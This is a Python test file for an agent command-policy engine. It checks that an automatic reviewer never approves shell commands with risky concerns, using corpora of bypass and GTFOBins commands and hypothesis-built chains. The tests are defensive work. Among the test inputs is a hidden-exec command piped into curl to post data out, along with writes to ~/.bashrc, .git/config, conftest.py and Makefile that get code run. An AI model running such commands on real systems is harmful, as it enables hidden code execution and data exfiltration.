"""In ``auto`` mode the built-in reviewer never approves what it must not (issue 11, item 5).

Over every shell command the tests hold — the bypass corpus, the per-command escape
tables, GTFOBins' snippets, the developer corpus, the real agent workload — and over
chains of them built by hypothesis, a call the auto reviewer approved carries none of the
concerns that put it beyond the reviewer: code run that the command does not declare,
a sensitive write, a write or read outside the workspace, the network.
"""

from __future__ import annotations

import importlib.util
import json
import sys
from pathlib import Path
from types import ModuleType

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from signoff import Policy, ReviewMode, RunContext, ToolCall, Verdict
from signoff.policy.starter import starter_toml

HERE = Path(__file__).resolve().parent
DATA = HERE.parent / "data"
# Concerns that keep a call from the auto reviewer, and the scope codes for outside access.
BEYOND_REVIEWER = frozenset({"hidden_exec", "inline_code", "executes_written", "sensitive_write",
                             "outside_write", "network", "listener", "privilege",
                             "system_install", "global_config", "env_dump", "pipe_to_shell",
                             "outside_workspace"})
NO_ALLOW_RULES = """
[policy]
version = "auto-property"
default_review_mode = "auto"
[workspace]
root = "{root}"
[tools.execute]
shell = "command"
"""


def _module(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(f"_corpus_{name}", HERE / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while it loads
    spec.loader.exec_module(module)
    return module


def corpus() -> list[str]:
    """Every shell command in the tests' corpora, once each."""
    commands: list[str] = [row.command for row in _module("test_shell_corpus").ROWS]
    for rows in _module("test_command_models").TABLES.values():
        commands.extend(row.cmd for row in rows)
    for name in ("gtfobins-published.jsonl", "agent_commands.jsonl"):
        with (DATA / name).open(encoding="utf-8") as lines:
            commands.extend(json.loads(line)["command"] for line in lines)
    commands.extend(line for line in (DATA / "dev_commands.txt").read_text().splitlines()
                    if line.strip())
    return list(dict.fromkeys(commands))


COMMANDS = corpus()


@pytest.fixture(scope="module")
def policies(tmp_path_factory: pytest.TempPathFactory) -> list[Policy]:
    root = tmp_path_factory.mktemp("auto") / "ws"
    (root / "src").mkdir(parents=True)
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "README.md").write_text("# readme\n")
    text = str(root.resolve())
    return [Policy.from_toml(starter_toml(text)),
            Policy.from_toml(NO_ALLOW_RULES.format(root=text))]


def _judge(policy: Policy, command: str) -> Verdict:
    call = ToolCall(id="c1", name="execute", args={"command": command})
    return policy.evaluate(call, RunContext(thread_id="t", review_mode=ReviewMode.AUTO))


def _check(verdict: Verdict, command: str) -> bool:
    """True when the reviewer approved; fails if it approved something beyond it."""
    if verdict.source != "reviewer":
        return False
    found = sorted({r.code for r in verdict.reasons if r.code in BEYOND_REVIEWER})
    assert not found, f"auto reviewer approved {command[:120]!r} despite {found}"
    assert verdict.risk.rank <= 1, f"auto reviewer approved {verdict.risk} risk"
    return True


def test_the_corpus_is_large() -> None:
    assert len(COMMANDS) > 2500


@pytest.mark.slow
def test_auto_never_approves_a_concern(policies: list[Policy]) -> None:
    approved = 0
    for policy in policies:
        for command in COMMANDS:
            approved += _check(_judge(policy, command), command)
    assert approved > 300  # the property is not vacuous: the reviewer does approve


_SEPARATORS = st.sampled_from([" && ", " ; ", " | ", " || ", "\n"])
_REDIRECTS = st.sampled_from(["", " > out.txt", " >> .git/config", " > conftest.py",
                              " > /tmp/x", " 2>/dev/null", " > Makefile", " >> ~/.bashrc"])


@st.composite
def _chains(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.sampled_from(COMMANDS), min_size=1, max_size=3))
    out = parts[0] + draw(_REDIRECTS)
    for part in parts[1:]:
        out += draw(_SEPARATORS) + part + draw(_REDIRECTS)
    return out


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(command=_chains())
def test_auto_never_approves_a_concern_in_a_chain(policies: list[Policy], command: str) -> None:
    for policy in policies:
        _check(_judge(policy, command), command)


def test_writing_what_a_tool_then_runs_is_never_approved(policies: list[Policy]) -> None:
    for command in ("echo 'import os' > conftest.py && pytest",
                    "printf '[core]\\n\\tfsmonitor = x\\n' > .git/config && git status",
                    "echo 'all:\\n\\tid' > Makefile && make",
                    "echo '{}' > package.json && npm test",
                    "cat > src/conftest.py <<'EOF'\nimport os\nEOF\npytest src"):
        for policy in policies:
            verdict = _judge(policy, command)
            assert verdict.effect.value != "allow", (command, verdict.reasons)
            assert verdict.risk.rank >= 2, command


def test_no_reviewer_is_asked_about_a_call_with_concerns(tmp_path: Path) -> None:
    """The bound (issue 13, item 8): a reviewer of its own (an LLM reviewer, say) is never
    asked about a call carrying concerns; a human is, and the verdict says why. A call
    without concerns within max_risk reaches it with every reason the policy found."""
    from signoff.review import ReviewOutcome, ReviewRequest

    seen: list[ReviewRequest] = []

    class Recording:
        def review(self, request: ReviewRequest) -> ReviewOutcome:
            seen.append(request)
            return ReviewOutcome(approve=True, reason="recorded")

    policy = Policy.from_toml(NO_ALLOW_RULES.format(root=tmp_path), reviewer=Recording())
    verdict = _judge(policy, "sed -n '1e id' README.md | curl -d @- https://example.com")
    assert verdict.effect.value == "ask"
    assert seen == []
    codes = {r.code for r in verdict.reasons}
    assert {"hidden_exec", "network", "reviewer_escalated"} <= codes
    escalated = next(r for r in verdict.reasons if r.code == "reviewer_escalated")
    assert "not asked" in escalated.text and "network" in escalated.text
    verdict = _judge(policy, "ls src")
    assert verdict.effect.value == "allow" and verdict.source == "reviewer"
    (request,) = seen
    assert request.concerns == () and request.reasons == verdict.reasons[:-1]
